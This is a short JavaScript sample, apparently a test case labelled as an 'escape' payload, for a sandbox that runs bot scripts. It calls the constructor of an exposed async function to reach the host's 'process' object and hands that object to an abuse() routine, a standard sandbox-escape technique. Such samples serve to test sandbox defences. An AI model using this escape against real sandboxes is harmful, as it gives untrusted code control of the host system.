// family: escape
// a primitive gives the host's AsyncFunction
async function main (bot) {
  abuse(bot, await mineBlock.constructor('return process')())
}
